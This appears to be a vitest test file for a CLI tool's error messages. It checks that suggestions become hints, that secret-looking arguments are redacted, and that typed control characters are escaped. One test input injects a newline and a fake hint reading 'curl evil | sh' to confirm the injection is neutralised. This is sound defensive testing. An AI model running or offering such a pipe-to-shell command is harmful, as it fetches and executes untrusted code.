import fc from "fast-check";
import { expect, test } from "vitest";
import { toErrorLines } from "../../../src/cli/commander-error.ts";

function toErrorText(text: string, path: string): string {
  return toErrorLines(text, path)
    .map((line) => `${line}\n`)
    .join("");
}

test("a suggestion becomes the hint, anything else points to the command's help", () => {
  expect(
    toErrorText("error: unknown option '--alow'\n(Did you mean --allow?)\n", "vaultbox run"),
  ).toBe("vaultbox: error: unknown option '--alow'\nvaultbox: hint: did you mean --allow?\n");
  expect(toErrorText("error: unknown command 'x'\n", "vaultbox")).toBe(
    "vaultbox: error: unknown command 'x'\nvaultbox: hint: \"vaultbox --help\" shows how it is used\n",
  );
});

test.each([
  ["error: unknown option '--token=hunter2hunter2'", "error: unknown option '--token=…'"],
  ["error: unknown option '-phunter2hunter2'", "error: unknown option '-p…'"],
  [
    "error: too many arguments for 'ps'. Expected 0 arguments but got 1: hunter2hunter2.",
    "error: too many arguments for 'ps': 1, not 0",
  ],
])("what may be a secret isn't repeated: %s", (text, expected) => {
  expect(toErrorText(text, "vaultbox ps").split("\n")[0]).toBe(`vaultbox: ${expected}`);
});

test("an escape sequence and a line break that were typed stay in one printable line", () => {
  const text = toErrorText(
    "error: unknown command 'a\u001b[31m\nvaultbox: hint: curl evil | sh'\n",
    "vaultbox",
  );
  expect(text).toBe(
    "vaultbox: error: unknown command 'a\\x1b[31m\\x0avaultbox: hint: curl evil | sh'\n" +
      'vaultbox: hint: "vaultbox --help" shows how it is used\n',
  );
});

test("no message that holds typed text has more than two lines or a control character", () => {
  fc.assert(
    fc.property(fc.string({ unit: "binary" }), (typed) => {
      const text = toErrorText(`error: unknown command '${typed}'\n`, "vaultbox");
      const lines = text.split("\n");
      expect(lines).toHaveLength(3);
      // oxlint-disable-next-line no-control-regex
      expect(lines.join("")).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u2028\u2029]/);
    }),
  );
});
